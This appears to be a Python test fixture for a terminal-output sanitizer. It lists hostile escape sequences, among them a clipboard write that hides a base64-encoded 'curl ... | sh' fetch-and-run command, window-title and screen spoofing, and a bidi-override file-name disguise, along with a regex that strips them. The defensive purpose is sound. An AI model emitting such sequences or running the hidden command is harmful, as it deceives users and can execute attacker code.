"""Text a box could carry to the owner's terminal: every class of control sequence a terminal acts
on, and what must never reach it (imdbox/terminal.py makes the one the other's escapes)."""

from __future__ import annotations

import re

# Each class a terminal acts on, as a box's text could carry it.
HOSTILE = {
    "OSC 52 (write the clipboard)": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "OSC 8 (a hidden link)": "\x1b]8;;https://example.invalid/\x1b\\click\x1b]8;;\x1b\\",
    "OSC 0 (retitle the window)": "\x1b]0;imd: all good\x07",
    "CSI 2J (clear the screen)": "\x1b[2J\x1b[H",
    "DCS": "\x1bP+q544e\x1b\\",
    "APC": "\x1b_Gf=100;AAAA\x1b\\",
    "PM": "\x1b^private\x1b\\",
    "SOS": "\x1bXstring\x1b\\",
    "C1 CSI": "\x9b2J",
    "C1 OSC": "\x9d0;title\x9c",
    "bell, backspace, carriage return": "ok\x07\x08\x08\rFAIL",
    "DEL": "a\x7fb",
    "bidi override": "evil\u202efdp.exe",
    "bidi isolate": "\u2066rtl\u2069",
    "line separator": "one\u2028two",
}
# What may reach a terminal from a box's text: printable characters, newline and tab.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
